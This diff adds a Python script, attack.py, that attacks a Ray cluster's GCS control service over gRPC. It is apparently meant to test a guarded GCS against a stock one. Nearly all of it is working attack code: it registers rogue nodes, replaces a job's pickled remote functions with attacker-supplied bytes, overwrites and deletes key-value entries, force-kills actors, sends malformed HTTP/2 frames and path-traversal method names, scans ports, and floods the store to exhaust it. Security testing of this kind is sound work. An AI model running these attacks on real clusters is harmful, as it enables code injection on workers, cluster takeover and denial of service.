@@ -1,0 +1,338 @@
+"""What somebody with a shell on a machine of the network does to a GCS.
+
+    python attack.py TARGET NAME [ARGUMENTS]
+
+TARGET is a JSON object: address, token (a file), and for TLS ca, cert and key
+(files). ARGUMENTS is a JSON list. Answers with one JSON object. Needs nothing but
+Ray and gRPC, and does the same to a stock GCS and to a guarded one.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import pickle
+import socket
+import ssl
+import sys
+import threading
+import time
+from collections import Counter
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+
+import grpc
+from ray.core.generated import gcs_service_pb2 as pb
+
+KV = "/ray.rpc.InternalKVGcsService/InternalKV"
+ACTOR = "/ray.rpc.ActorInfoGcsService/"
+NODE = "/ray.rpc.NodeInfoGcsService/"
+SYNC = "/ray.rpc.syncer.RaySyncer/StartSync"
+UNLIMITED = [
+    ("grpc.max_receive_message_length", -1),
+    ("grpc.max_send_message_length", -1),
+]
+
+
+class Gcs:
+    """A client that sends whatever bytes it is given."""
+
+    def __init__(self, target: dict[str, str]) -> None:
+        self.target = target
+        address = target["address"]
+        if "ca" in target:
+            read = {k: Path(target[k]).read_bytes() for k in ("ca", "cert", "key")}
+            credentials = grpc.ssl_channel_credentials(
+                read["ca"], read["key"], read["cert"]
+            )
+            self.channel = grpc.secure_channel(address, credentials, UNLIMITED)
+        else:
+            self.channel = grpc.insecure_channel(address, UNLIMITED)
+        token = Path(target["token"]).read_text().strip() if "token" in target else ""
+        self.metadata = (("authorization", f"Bearer {token}"),) if token else ()
+
+    def raw(self, path: str, body: bytes, timeout_s: float = 10) -> bytes:
+        """Call a method with bytes, return bytes."""
+        call = self.channel.unary_unary(path, lambda raw: raw, lambda raw: raw)
+        answer: bytes = call(body, metadata=self.metadata, timeout=timeout_s)
+        return answer
+
+    def kv(self, verb: str, timeout_s: float = 10, **fields: Any) -> Any:
+        """Call a method of the key-value store."""
+        ask = getattr(pb, f"InternalKV{verb}Request")(**fields)
+        reply = getattr(pb, f"InternalKV{verb}Reply")
+        return reply.FromString(self.raw(KV + verb, ask.SerializeToString(), timeout_s))
+
+
+def outcome(function: Any, *arguments: Any) -> dict[str, Any]:
+    """Run an attack; an error of gRPC is an outcome."""
+    try:
+        return {"code": "OK", **(function(*arguments) or {})}
+    except grpc.RpcError as error:
+        return {"code": error.code().name, "details": str(error.details())[:400]}  # type: ignore[attr-defined]
+
+
+def call(gcs: Gcs, path: str, body: str = "") -> dict[str, Any]:
+    """Call any method with the given bytes (hex)."""
+    return {"answer": gcs.raw(path, bytes.fromhex(body)).hex()[:200]}
+
+
+def call_all(gcs: Gcs, paths: list[str]) -> dict[str, Any]:
+    """Call each method without arguments."""
+    return {
+        "codes": {path: outcome(_discard, gcs, path, b"")["code"] for path in paths}
+    }
+
+
+def short_ids(gcs: Gcs) -> None:
+    """Ask about an actor whose identifier is one byte long."""
+    ask = pb.GetActorInfoRequest(actor_id=b"x")
+    gcs.raw(ACTOR + "GetActorInfo", ask.SerializeToString())
+
+
+def register_node(gcs: Gcs, node: dict[str, Any]) -> dict[str, Any]:
+    """Register a node that does not exist."""
+    node_id = hashlib.sha224(os.urandom(8)).digest()
+    ask = pb.RegisterNodeRequest()
+    info = ask.node_info
+    info.node_id = node_id
+    info.node_name = node.get("name", "rogue")
+    info.node_manager_address = node["address"]
+    info.node_manager_hostname = "rogue"
+    info.node_manager_port = 1
+    info.object_manager_port = 2
+    info.is_head_node = node.get("head", False)
+    info.resources_total.update(node.get("resources", {"CPU": 1.0}))
+    info.labels.update(node.get("labels", {}))
+    gcs.raw(NODE + "RegisterNode", ask.SerializeToString())
+    return {"node_id": node_id.hex(), "listed": node_id.hex() in _nodes(gcs)}
+
+
+def _nodes(gcs: Gcs) -> list[str]:
+    ask = pb.GetAllNodeInfoRequest().SerializeToString()
+    reply = pb.GetAllNodeInfoReply.FromString(gcs.raw(NODE + "GetAllNodeInfo", ask))
+    return [info.node_id.hex() for info in reply.node_info_list]
+
+
+def unregister_node(gcs: Gcs, node_id: str) -> None:
+    """Have the GCS count a node as dead."""
+    ask = pb.UnregisterNodeRequest(node_id=bytes.fromhex(node_id))
+    ask.node_death_info.reason = 1
+    gcs.raw(NODE + "UnregisterNode", ask.SerializeToString())
+
+
+def replace_function(gcs: Gcs, job: str, function: str) -> dict[str, Any]:
+    """Replace every function of a job by another (pickled, as hex)."""
+    keys = gcs.kv("Keys", namespace=b"fun", prefix=f"RemoteFunction:{job}:".encode())
+    for key in keys.results:
+        known = pickle.loads(gcs.kv("Get", namespace=b"fun", key=key).value)
+        value = pickle.dumps({**known, "function": bytes.fromhex(function)})
+        gcs.kv("Put", namespace=b"fun", key=key, value=value, overwrite=True)
+    return {"replaced": len(keys.results)}
+
+
+def overwrite(gcs: Gcs, namespace: str, key: str, value: str) -> dict[str, Any]:
+    """Write over a key."""
+    reply = gcs.kv("Put", namespace=namespace.encode(), key=key.encode(),
+                   value=value.encode(), overwrite=True)  # fmt: skip
+    return {"added": reply.added}
+
+
+def read(gcs: Gcs, namespace: str, key: str) -> dict[str, Any]:
+    """Read a key."""
+    reply = gcs.kv("Get", namespace=namespace.encode(), key=key.encode())
+    return {"value": reply.value.decode(errors="replace")}
+
+
+def delete(gcs: Gcs, namespace: str, key: str) -> dict[str, Any]:
+    """Delete a key."""
+    reply = gcs.kv("Del", namespace=namespace.encode(), key=key.encode())
+    return {"deleted": reply.deleted_num}
+
+
+def list_keys(gcs: Gcs, namespace: str, prefix: str) -> dict[str, Any]:
+    """List keys."""
+    reply = gcs.kv("Keys", namespace=namespace.encode(), prefix=prefix.encode())
+    return {"keys": [key.decode(errors="replace") for key in reply.results]}
+
+
+def kill_actor(gcs: Gcs, actor_id: str) -> None:
+    """Kill an actor by its id, for good."""
+    ask = pb.KillActorViaGcsRequest(
+        actor_id=bytes.fromhex(actor_id), force_kill=True, no_restart=True
+    )
+    gcs.raw(ACTOR + "KillActorViaGcs", ask.SerializeToString())
+
+
+def find_actor(gcs: Gcs, namespace: str, name: str) -> dict[str, Any]:
+    """Look a named actor up, as the first step of calling or killing it."""
+    ask = pb.GetNamedActorInfoRequest(name=name, ray_namespace=namespace)
+    raw = gcs.raw(ACTOR + "GetNamedActorInfo", ask.SerializeToString())
+    reply = pb.GetNamedActorInfoReply.FromString(raw)
+    return {"actor_id": reply.actor_table_data.actor_id.hex()}
+
+
+def sync_without_node(gcs: Gcs) -> None:
+    """Open the stream of resource reports without saying whose it is."""
+    stream = gcs.channel.stream_stream(SYNC, lambda raw: raw, lambda raw: raw)
+    for _ in stream(iter([b""]), metadata=gcs.metadata, timeout=5):
+        break
+
+
+def two_tokens(gcs: Gcs) -> dict[str, Any]:
+    """Send the token and another one."""
+    metadata = (*gcs.metadata, ("authorization", "Bearer " + "0" * 64))
+    stub = gcs.channel.unary_unary(NODE + "GetAllNodeInfo", lambda r: r, lambda r: r)
+    return {"answer": stub(b"", metadata=metadata, timeout=10).hex()[:80]}
+
+
+def junk(gcs: Gcs) -> dict[str, Any]:
+    """Send what no client sends, on connections of its own; count what happens."""
+    seen: Counter[str] = Counter()
+    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+    settings = bytes(3) + b"\x04" + bytes(5)
+    for payload in (
+        os.urandom(4096),
+        preface + os.urandom(4096),
+        preface + settings + b"\x00\xff\xff\x00\x05\x00\x00\x00\x01" + os.urandom(64),
+        preface + settings + b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00",
+        preface + settings + (b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" * 20000),
+        b"GET / HTTP/1.1\r\nhost: x\r\n\r\n",
+    ):
+        with _connect(gcs.target) as sock:
+            try:
+                sock.sendall(payload)
+                sock.settimeout(3)
+                while sock.recv(65536):
+                    pass
+                seen["closed"] += 1
+            except TimeoutError:
+                seen["open"] += 1
+            except OSError:
+                seen["closed"] += 1
+    return dict(seen)
+
+
+def _connect(target: dict[str, str]) -> socket.socket:
+    host, _, port = target["address"].partition(":")
+    sock = socket.create_connection((host, int(port)), timeout=5)
+    if "ca" not in target:
+        return sock
+    context = ssl.create_default_context(cafile=target["ca"])
+    context.load_cert_chain(target["cert"], target["key"])
+    context.set_alpn_protocols(["h2"])
+    return context.wrap_socket(sock, server_hostname=host)
+
+
+def malformed(gcs: Gcs) -> dict[str, Any]:
+    """Call methods with bytes that are no such message."""
+    seen = {}
+    for name, path in (
+        ("put", KV + "Put"),
+        ("kill", ACTOR + "KillActorViaGcs"),
+        ("actor", ACTOR + "RegisterActor"),
+        ("node", NODE + "RegisterNode"),
+        ("nothing", "/ray.rpc.NoSuchService/Nothing"),
+        ("dots", "/ray.rpc.InternalKVGcsService/../NodeInfoGcsService/RegisterNode"),
+    ):
+        for label, body in (("random", b"\xff" * 200), ("cut", b"\x0a\x7f12")):
+            seen[f"{name}-{label}"] = outcome(_discard, gcs, path, body)["code"]
+    return {"seen": seen}
+
+
+def _discard(gcs: Gcs, path: str, body: bytes) -> None:
+    gcs.raw(path, body)
+
+
+def plain_ports(gcs: Gcs, ports: list[int]) -> dict[str, Any]:
+    """Connect to each port and say what it answers to HTTP."""
+    host = gcs.target["address"].partition(":")[0]
+    with ThreadPoolExecutor(16) as pool:
+        found = pool.map(lambda port: _plain_port(host, port), ports)
+        return {"answers": dict(zip(map(str, ports), found))}
+
+
+def _plain_port(host: str, port: int) -> str:
+    try:
+        with socket.create_connection((host, port), timeout=1) as sock:
+            sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
+            sock.settimeout(2)
+            return sock.recv(64).decode(errors="replace")
+    except OSError as error:
+        return type(error).__name__
+
+
+def batch(gcs: Gcs, calls: list[list[Any]]) -> dict[str, Any]:
+    """Do several attacks; return the code of each."""
+    return {
+        "codes": [outcome(globals()[name], gcs, *rest)["code"] for name, *rest in calls]
+    }
+
+
+def _flood(gcs: Gcs, seconds: float, threads: int, one: Any) -> dict[str, Any]:
+    """Call `one(channel number)` from many threads; count outcomes."""
+    end, seen, lock = time.monotonic() + seconds, Counter[str](), threading.Lock()
+
+    def run(number: int) -> None:
+        mine = Counter[str]()
+        client = Gcs(gcs.target)
+        while time.monotonic() < end:
+            try:
+                one(client, number)
+                mine["OK"] += 1
+            except grpc.RpcError as error:
+                mine[error.code().name] += 1  # type: ignore[attr-defined]
+        with lock:
+            seen.update(mine)
+
+    with ThreadPoolExecutor(threads) as pool:
+        list(pool.map(run, range(threads)))
+    return {"seen": dict(seen)}
+
+
+def flood_small(gcs: Gcs, seconds: float) -> dict[str, Any]:
+    """Small writes and reads, as many as the connection takes."""
+    value = os.urandom(4096)
+
+    def one(client: Gcs, number: int) -> None:
+        client.kv("Put", namespace=b"flood", key=b"small%d" % number, value=value,
+                  overwrite=True)  # fmt: skip
+
+    return _flood(gcs, seconds, 16, one)
+
+
+def flood_reads(gcs: Gcs, seconds: float) -> dict[str, Any]:
+    """Reads of a large value, each given up after some milliseconds."""
+    gcs.kv("Put", 60, namespace=b"flood", key=b"large", value=os.urandom(4 << 20),
+           overwrite=True)  # fmt: skip
+
+    def one(client: Gcs, number: int) -> None:
+        client.kv("Get", 0.02, namespace=b"flood", key=b"large")
+
+    return _flood(gcs, seconds, 8, one)
+
+
+def flood_writes(gcs: Gcs, seconds: float) -> dict[str, Any]:
+    """Writes of large values under ever new keys."""
+    value = os.urandom(1 << 20)
+
+    def one(client: Gcs, number: int) -> None:
+        client.kv("Put", 20, namespace=b"flood", key=b"w" + os.urandom(8), value=value,
+                  overwrite=True)  # fmt: skip
+
+    return _flood(gcs, seconds, 4, one)
+
+
+def main() -> None:
+    """Do one attack."""
+    gcs = Gcs(json.loads(sys.argv[1]))
+    arguments = json.loads(sys.argv[3]) if len(sys.argv) > 3 else []
+    print(json.dumps(outcome(globals()[sys.argv[2]], gcs, *arguments)), flush=True)
+    # Channels may hold threads that wait for what never comes.
+    os._exit(0)
+
+
+if __name__ == "__main__":
+    main()
